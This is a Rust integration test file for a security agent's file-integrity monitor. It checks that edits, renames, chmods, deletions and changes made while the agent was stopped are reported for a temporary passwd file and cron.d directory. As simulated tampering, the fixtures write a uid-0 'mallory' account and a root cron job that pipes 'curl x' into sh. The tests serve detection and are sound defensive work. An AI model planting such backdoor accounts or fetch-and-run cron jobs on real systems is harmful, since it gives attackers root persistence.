//! File integrity on a temporary tree: every kind of change to a watched
//! file or below a watched directory becomes one event naming the path and
//! what changed, including edits by rename (as editors save) and a file
//! deleted and created again; and, with a state directory, changes made
//! while the watch was stopped are reported when it starts again. Waits
//! are bounded (5 s per event).

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::Duration;

use patrol_agent::fim::{FileIntegrity, FimConfig, WatchPath};
use patrol_shared::model::AgentEvent;
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;

const WAIT: Duration = Duration::from_secs(5);

fn sha256(bytes: &[u8]) -> String {
    ring::digest::digest(&ring::digest::SHA256, bytes)
        .as_ref()
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

async fn next(rx: &mut mpsc::Receiver<AgentEvent>) -> AgentEvent {
    let event = tokio::time::timeout(WAIT, rx.recv())
        .await
        .expect("an event within 5s")
        .expect("the watch is running");
    assert_eq!(event.kind, "file_integrity");
    event
}

struct Watched {
    etc: PathBuf,
    rx: mpsc::Receiver<AgentEvent>,
    fim: FileIntegrity,
    cancel: CancellationToken,
    _dir: tempfile::TempDir,
}

async fn watch_tree() -> Watched {
    let dir = tempfile::tempdir().unwrap();
    let etc = make_tree(dir.path());
    let (rx, fim, cancel) = start(&etc, None).await;
    Watched {
        etc,
        rx,
        fim,
        cancel,
        _dir: dir,
    }
}

fn make_tree(dir: &Path) -> PathBuf {
    let etc = dir.join("etc");
    std::fs::create_dir_all(etc.join("cron.d")).unwrap();
    std::fs::write(etc.join("passwd"), "root:x:0:0:root:/root:/bin/bash\n").unwrap();
    std::fs::set_permissions(etc.join("passwd"), std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::write(etc.join("group"), "root:x:0:\n").unwrap();
    std::fs::write(
        etc.join("cron.d/backup"),
        "0 2 * * * root /usr/local/bin/backup\n",
    )
    .unwrap();
    etc
}

/// Watches `etc/passwd` and `etc/cron.d` (recursive) until the returned
/// token is cancelled.
async fn start(
    etc: &Path,
    state_dir: Option<&Path>,
) -> (mpsc::Receiver<AgentEvent>, FileIntegrity, CancellationToken) {
    let config = FimConfig {
        paths: vec![
            WatchPath {
                path: etc.join("passwd"),
                recursive: false,
            },
            WatchPath {
                path: etc.join("cron.d"),
                recursive: true,
            },
        ],
        debounce: Duration::from_millis(100),
        ..FimConfig::default()
    };
    assert!(config.validate().is_empty());
    let (tx, rx) = mpsc::channel(64);
    let cancel = CancellationToken::new();
    let fim = FileIntegrity::start(&config, state_dir, tx, cancel.clone()).unwrap();
    tokio::time::timeout(WAIT, fim.ready())
        .await
        .expect("first states taken");
    (rx, fim, cancel)
}

fn counted(fim: &FileIntegrity, path: &Path) -> f64 {
    fim.families()
        .into_iter()
        .find(|f| f.name == "patrol_fim_events_total")
        .and_then(|f| {
            f.series
                .into_iter()
                .find(|s| s.labels == vec![("path".to_owned(), path.display().to_string())])
        })
        .map_or(0.0, |s| s.value)
}

#[tokio::test]
async fn content_changes_name_the_path_and_both_hashes() {
    let mut w = watch_tree().await;
    let passwd = w.etc.join("passwd");
    let before = std::fs::read(&passwd).unwrap();
    let after = b"root:x:0:0:root:/root:/bin/bash\nmallory:x:0:0::/:/bin/sh\n";
    std::fs::write(&passwd, after).unwrap();
    let e = next(&mut w.rx).await;
    assert_eq!(
        e.message,
        format!(
            "{} modified: content sha256 {} → {}",
            passwd.display(),
            sha256(&before),
            sha256(after)
        )
    );
    assert_eq!(counted(&w.fim, &passwd), 1.0);
    w.cancel.cancel();
}

#[tokio::test]
async fn an_editor_saving_by_rename_and_a_chmod_are_each_one_change() {
    let mut w = watch_tree().await;
    let passwd = w.etc.join("passwd");
    // A sibling that is not watched changes first: no event for it.
    std::fs::write(w.etc.join("group"), "root:x:0:\nwheel:x:10:mallory\n").unwrap();
    // vim-style save: write a new file, rename it over the old one.
    let tmp = w.etc.join(".passwd.swp");
    std::fs::write(&tmp, "root:x:0:0:root:/root:/bin/zsh\n").unwrap();
    std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::rename(&tmp, &passwd).unwrap();
    let e = next(&mut w.rx).await;
    assert!(
        e.message
            .starts_with(&format!("{} modified: content sha256 ", passwd.display())),
        "{e:?}"
    );
    // The watch survived the rename: a mode change is seen too.
    std::fs::set_permissions(&passwd, std::fs::Permissions::from_mode(0o666)).unwrap();
    let e = next(&mut w.rx).await;
    assert_eq!(
        e.message,
        format!("{} modified: mode 0644 → 0666", passwd.display())
    );
    assert_eq!(counted(&w.fim, &passwd), 2.0);
    w.cancel.cancel();
}

#[tokio::test]
async fn a_watched_file_deleted_and_created_again_is_still_watched() {
    let mut w = watch_tree().await;
    let passwd = w.etc.join("passwd");
    std::fs::remove_file(&passwd).unwrap();
    let e = next(&mut w.rx).await;
    assert!(
        e.message
            .starts_with(&format!("{} deleted (was file, sha256 ", passwd.display())),
        "{e:?}"
    );
    std::fs::write(&passwd, "root:x:0:0:root:/root:/bin/bash\n").unwrap();
    let e = next(&mut w.rx).await;
    assert!(
        e.message
            .starts_with(&format!("{} created: file, sha256 ", passwd.display())),
        "{e:?}"
    );
    std::fs::write(&passwd, "changed\n").unwrap();
    let e = next(&mut w.rx).await;
    assert!(e.message.contains("modified: content"), "{e:?}");
    w.cancel.cancel();
}

#[tokio::test]
async fn files_below_a_recursive_directory_are_watched() {
    let mut w = watch_tree().await;
    let cron = w.etc.join("cron.d");
    let evil = cron.join("evil");
    std::fs::write(&evil, "* * * * * root curl x | sh\n").unwrap();
    let e = next(&mut w.rx).await;
    assert!(
        e.message
            .starts_with(&format!("{} created: file", evil.display())),
        "{e:?}"
    );
    let sub = cron.join("more");
    std::fs::create_dir(&sub).unwrap();
    let e = next(&mut w.rx).await;
    assert!(
        e.message
            .starts_with(&format!("{} created: directory", sub.display())),
        "{e:?}"
    );
    let deep = sub.join("job");
    std::fs::write(&deep, "@reboot root /tmp/x\n").unwrap();
    let e = next(&mut w.rx).await;
    assert!(
        e.message
            .starts_with(&format!("{} created: file", deep.display())),
        "{e:?}"
    );
    std::fs::remove_file(&evil).unwrap();
    let e = next(&mut w.rx).await;
    assert!(
        e.message
            .starts_with(&format!("{} deleted", evil.display())),
        "{e:?}"
    );
    assert_eq!(counted(&w.fim, &cron), 4.0);
    let files = w
        .fim
        .families()
        .into_iter()
        .find(|f| f.name == "patrol_fim_files")
        .unwrap();
    assert!(files.series.iter().any(|s| s.value >= 4.0), "{files:?}");
    w.cancel.cancel();
}

#[tokio::test]
async fn a_watched_directory_removed_and_made_again_is_watched_again() {
    let mut w = watch_tree().await;
    let cron = w.etc.join("cron.d");
    std::fs::remove_dir_all(&cron).unwrap();
    let mut messages = vec![next(&mut w.rx).await.message, next(&mut w.rx).await.message];
    messages.sort();
    assert!(
        messages[0].starts_with(&format!("{} deleted (was directory", cron.display())),
        "{messages:?}"
    );
    assert!(
        messages[1].starts_with(&format!("{}/backup deleted", cron.display())),
        "{messages:?}"
    );
    std::fs::create_dir(&cron).unwrap();
    let e = next(&mut w.rx).await;
    assert!(
        e.message
            .starts_with(&format!("{} created: directory", cron.display())),
        "{e:?}"
    );
    let job = cron.join("job");
    std::fs::write(&job, "@daily root true\n").unwrap();
    let e = next(&mut w.rx).await;
    assert!(
        e.message
            .starts_with(&format!("{} created: file", job.display())),
        "{e:?}"
    );
    w.cancel.cancel();
}

#[tokio::test]
async fn changes_made_while_the_watch_was_stopped_are_reported_at_its_next_start() {
    let dir = tempfile::tempdir().unwrap();
    let etc = make_tree(dir.path());
    let state = dir.path().join("state");
    let passwd = etc.join("passwd");
    let before = std::fs::read(&passwd).unwrap();

    // First start: states taken and kept, nothing to report.
    let (mut rx, fim, cancel) = start(&etc, Some(&state)).await;
    assert!(
        tokio::time::timeout(Duration::from_millis(500), rx.recv())
            .await
            .is_err(),
        "a first start reports nothing"
    );
    assert_eq!(
        counted(&fim, &passwd),
        0.0,
        "the counter exists from the start"
    );
    cancel.cancel();
    tokio::time::timeout(WAIT, fim.stopped())
        .await
        .expect("the watch stops");
    drop((rx, fim));

    // While stopped: an edit, a chmod, a new cron job, a deleted one.
    let after = b"root:x:0:0:root:/root:/bin/bash\nmallory:x:0:0::/:/bin/sh\n";
    std::fs::write(&passwd, after).unwrap();
    let cron = etc.join("cron.d");
    std::fs::write(cron.join("evil"), "* * * * * root curl x | sh\n").unwrap();
    std::fs::remove_file(cron.join("backup")).unwrap();

    let (mut rx, fim, cancel) = start(&etc, Some(&state)).await;
    let mut messages = Vec::new();
    for _ in 0..3 {
        messages.push(next(&mut rx).await.message);
    }
    messages.sort();
    let mut want = [
            format!(
                "{} modified: content sha256 {} → {} (while the agent was stopped)",
                passwd.display(),
                sha256(&before),
                sha256(after)
            ),
            format!(
                "{}/backup deleted (was file, sha256 {}, mode {:04o}, owner {}) (while the agent was stopped)",
                cron.display(),
                sha256(b"0 2 * * * root /usr/local/bin/backup\n"),
                0o644 & !umask(),
                owner(),
            ),
            format!(
                "{}/evil created: file, sha256 {}, mode {:04o}, owner {} (while the agent was stopped)",
                cron.display(),
                sha256(b"* * * * * root curl x | sh\n"),
                0o666 & !umask(),
                owner(),
            ),
        ];
    want.sort();
    assert_eq!(messages, want);
    assert_eq!(counted(&fim, &passwd), 1.0);
    assert_eq!(counted(&fim, &cron), 2.0);
    cancel.cancel();
    tokio::time::timeout(WAIT, fim.stopped())
        .await
        .expect("the watch stops");
    drop((rx, fim));

    // Reported once: the third start finds nothing new.
    let (mut rx, _fim, cancel) = start(&etc, Some(&state)).await;
    assert!(
        tokio::time::timeout(Duration::from_millis(500), rx.recv())
            .await
            .is_err(),
        "nothing changed since the last start"
    );
    cancel.cancel();
}

/// The process umask, read without changing it (other tests run alongside).
fn umask() -> u32 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            let line = s.lines().find(|l| l.starts_with("Umask:"))?;
            u32::from_str_radix(line.split_whitespace().nth(1)?, 8).ok()
        })
        .unwrap_or(0o022)
}

fn owner() -> String {
    format!(
        "{}:{}",
        rustix::process::getuid().as_raw(),
        rustix::process::getgid().as_raw()
    )
}
